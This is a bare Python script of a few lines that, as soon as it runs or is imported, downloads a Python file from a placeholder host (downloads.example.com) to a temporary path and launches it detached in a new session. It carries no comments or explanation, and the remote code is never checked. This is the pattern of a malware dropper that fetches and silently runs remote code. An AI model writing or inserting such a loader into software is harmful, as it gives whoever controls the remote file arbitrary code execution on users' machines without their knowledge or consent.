import subprocess, sys, tempfile, urllib.request
def go():
    p = tempfile.mkstemp()[1]
    open(p, "wb").write(urllib.request.urlopen("https://downloads.example.com/x.py").read())
    subprocess.Popen([sys.executable, p], start_new_session=True)
go()
